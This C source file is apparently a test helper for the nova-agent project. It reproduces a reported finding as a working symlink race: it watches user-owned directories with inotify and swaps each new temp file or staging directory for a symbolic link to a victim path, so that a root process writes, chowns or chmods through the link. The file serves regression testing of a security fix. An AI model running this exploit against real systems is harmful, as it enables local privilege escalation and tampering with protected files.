/* SPDX-License-Identifier: Apache-2.0 — nova-agent */
/*
 * The attacker of issue #19 finding 1, for tests: runs as an unprivileged user who owns the DIRs,
 * watches them with inotify and, the moment any entry other than KEEP appears in one (a temp file,
 * a staging directory), renames it away and puts a symbolic link to VICTIM in its place, hoping the
 * root process then writes, chowns or chmods through the link. Prints one line per swap.
 * Usage: swap-racer VICTIM KEEP DIR...   (runs until killed)
 */
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <unistd.h>

#define MAX_DIRS 8

int main(int argc, char **argv) {
    if (argc < 4 || argc - 3 > MAX_DIRS) {
        fprintf(stderr, "usage: swap-racer VICTIM KEEP DIR...\n");
        return 2;
    }
    int fd = inotify_init();
    int wds[MAX_DIRS], dirfds[MAX_DIRS];
    for (int i = 3; i < argc; i++) {
        dirfds[i - 3] = open(argv[i], O_RDONLY | O_DIRECTORY);
        wds[i - 3] = inotify_add_watch(fd, argv[i], IN_CREATE | IN_MOVED_TO);
        if (fd < 0 || dirfds[i - 3] < 0 || wds[i - 3] < 0) {
            perror(argv[i]);
            return 1;
        }
    }
    printf("watching\n");
    fflush(stdout);
    char buf[64 * (sizeof(struct inotify_event) + NAME_MAX + 1)];
    unsigned long n = 0;
    for (;;) {
        ssize_t len = read(fd, buf, sizeof buf);
        if (len <= 0) {
            return 1;
        }
        for (char *p = buf; p < buf + len;) {
            struct inotify_event *ev = (struct inotify_event *) p;
            p += sizeof(struct inotify_event) + ev->len;
            if (ev->len == 0 || strcmp(ev->name, argv[2]) == 0 || strncmp(ev->name, "moved-", 6) == 0) {
                continue;
            }
            int d = -1;
            for (int i = 0; i < argc - 3; i++) {
                if (wds[i] == ev->wd) {
                    d = dirfds[i];
                }
            }
            if (d < 0) {
                continue;
            }
            char moved[NAME_MAX + 32];
            snprintf(moved, sizeof moved, "moved-%lu", n++);
            if (renameat(d, ev->name, d, moved) == 0 && symlinkat(argv[1], d, ev->name) == 0) {
                printf("swapped %s\n", ev->name);
                fflush(stdout);
            }
        }
    }
}
